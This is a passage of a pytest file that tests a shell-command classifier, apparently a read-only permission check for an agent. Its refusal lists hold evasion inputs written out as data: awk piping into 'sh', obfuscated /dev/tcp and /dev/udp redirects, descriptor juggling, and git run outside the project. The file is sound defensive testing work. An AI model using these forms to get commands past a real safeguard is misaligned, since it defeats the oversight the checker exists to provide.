    "awk '{ x = \"a\\\n#\"; print | \"sh\" }' f",
    "awk '{ x = $/#/; print | \"sh\" }' f",
    "awk '{ x = y @ z }' f",
    "awk '{ x = `id` }' f",
    "awk 'BEGIN { x = 1 } )' f",
]


@pytest.mark.parametrize("command", AWK_REGEX_BYPASSES)
def test_awk_regex_versus_division(command: str) -> None:
    assert_refused(command, "awk:")


AWK_READ_ONLY = [
    "awk '{ print $1 / 2 }' f",
    "awk '{ print ($1) / 2 }' f",
    "awk '{ x = a[1] / 2; print x }' f",
    "awk '{ n++ } END { print n / 2 }' f",
    "awk '{ x /= 2; print x }' f",
    "awk '{ n = /x/; print n }' f",
    "awk '!/^#/' f",
    "awk '/#/ { c++ } END { print c }' f",
    "awk '$2 ~ /\"/ { print }' f",
    "awk '{ print /a|b/ ? \"y\" : \"n\" }' f",
    "awk -e '{ x = 1 }' -e 'END { print x }' f",
    "awk '{ gsub(/#.*/, \"\"); print }' f",
    "awk '{ print 1.5e3 / .5 }' f",
    "awk '# a comment with | and >\n{ print }' f",
]


@pytest.mark.parametrize("command", AWK_READ_ONLY)
def test_awk_tokenizer_still_allows(command: str) -> None:
    assert_read_only(command)


SED_DELIMITER_BYPASSES = [
    "sed 's[a[b[' f",
    "sed 'sxaxbx' f",
    "sed 's a b ' f",
    "sed 'y[ab[cd[' f",
    "sed '\\[a[p' f",
]


@pytest.mark.parametrize("command", SED_DELIMITER_BYPASSES)
def test_sed_uncertain_delimiters(command: str) -> None:
    assert_refused(command, "sed:")


# Redirect targets that bash expands, and descriptor juggling.
REDIRECT_BYPASSES = [
    "cat notes.txt </dev/${v:-tcp}/127.0.0.1/9 1<&0",
    "cat </dev/${v:-tcp}/127.0.0.1/9",
    "cat </dev/$v/127.0.0.1/9",
    "cat <$f",
    'cat <"$f"',
    "cat </dev/\"tcp\"/127.0.0.1/9",
    "cat </dev/'tcp'/127.0.0.1/9",
    "cat </dev/t\\cp/127.0.0.1/9",
    "cat </dev/$'tcp'/127.0.0.1/9",
    "cat </dev/{tcp,x}/127.0.0.1/9",
    "cat </dev/tc?/127.0.0.1/9",
    "cat </dev/tc[p]/127.0.0.1/9",
    "cat <~/x",
    "cat <~root/x",
    "cat </dev//tcp/127.0.0.1/9",
    "cat <//dev/tcp/127.0.0.1/9",
    "cat < /dev/udp/127.0.0.1/53",
    "cat </dev/fd/3",
    "cat </dev/stdin",
    "cat </proc/self/fd/0",
    "cat notes.txt 1<&0",
    "cat notes.txt 1>&0",
    "cat notes.txt 2>&0",
    "cat notes.txt 2<&0",
    "cat notes.txt 1>&3",
    "cat notes.txt 2>&3-",
    "cat notes.txt >&3",
    "cat notes.txt <&3",
    "cat notes.txt <&-",
    "cat notes.txt 0>&1",
    "cat notes.txt 0>/dev/null",
    "cat notes.txt 3>/dev/null",
    "cat notes.txt 3<notes.txt",
    "cat notes.txt 1<notes.txt",
    "cat 3<<EOF\nx\nEOF\n",
    "cat 3<<<x",
    "ls >&$fd",
    "ls >& $f",
    "ls >/dev/nul\\l",
    "ls >'/dev/null'x",
    "ls >/dev/null\"\"",
    "{ cat f; } 1<&0",
    "(cat f) </dev/${v:-tcp}/h/9",
]


@pytest.mark.parametrize("command", REDIRECT_BYPASSES)
def test_redirect_targets_and_descriptors(command: str) -> None:
    assert_refused(command, ("redirect:", "parse-error", "parameter:"))


REDIRECT_READ_ONLY = [
    "cat < notes.txt",
    "cat <'my notes.txt'",
    'cat <"my notes.txt"',
    "cat 0<notes.txt",
    "cat <src/a-b_c.txt",
    "ls 2>&1",
    "ls 1>&2",
    "ls >&2",
    "ls 2>&1 >/dev/null",
    "ls 1>&2-",
    "ls >&-",
    "ls 2>&-",
    "ls 2>/dev/null",
    "ls >& /dev/null",
    "ls &>>/dev/null",
    "cat <<<x",
    "cat 0<<<x",
    "{ cat f; } 2>&1",
]


@pytest.mark.parametrize("command", REDIRECT_READ_ONLY)
def test_redirects_still_allowed(command: str) -> None:
    assert_read_only(command)


# git run in a directory whose repository the configuration check does not cover.
GIT_DIRECTORY_BYPASSES = [
    "git -C /tmp/evil status",
    "git -C ~/evil log",
    "git -C ../evil diff",
    "git -C src/../../evil diff",
    "git -C $D status",
    "cd /tmp/evil && git status",
    "cd ~ && git log",
    "cd && git log",
    "cd - && git log",
    "cd ..; git status",
    "cd src/../..; git status",
    "cd $D; git status",
    "cd /tmp\ngit status",
    "git status; cd /; git log",
]


@pytest.mark.parametrize("command", GIT_DIRECTORY_BYPASSES)
def test_git_outside_the_project(command: str) -> None:
    assert_refused(command)


@pytest.mark.parametrize(
    "command", ["cd src && git log", "git -C src status", "cd /tmp && ls", "cd ..; ls"]
)
def test_cd_and_git_inside_the_project(command: str) -> None:
    assert_read_only(command)


def test_uses_git() -> None:
    assert classify("ls | git log").uses_git
    assert classify("git push").uses_git
    assert not classify("ls -la").uses_git
    assert not classify("echo git").uses_git


# Found by scripts/fuzz_shell.py (each was a finding before it was fixed).
FUZZ_FINDINGS: list[tuple[str, str]] = [
    # bash -n rejects these; the statement splitter used to drop the empty statement
    (";sed 's/x/y/2' f", "parse-error"),
    ("ls; ;", "parse-error"),
    ("ls & ;", "parse-error"),
    ("ls;\n;", "parse-error"),
    ("ls;;", "parse-error"),
    # "~" expands to a directory: not a literal argument for a ruled command
    ("git log ~", "dynamic-arg:git"),
    ("sort ~-", "dynamic-arg:sort"),
    ("sed -n p ~/x", "dynamic-arg:sed"),
]


@pytest.mark.parametrize(("command", "reason"), FUZZ_FINDINGS)
def test_fuzz_findings(command: str, reason: str) -> None:
    assert_refused(command, reason)
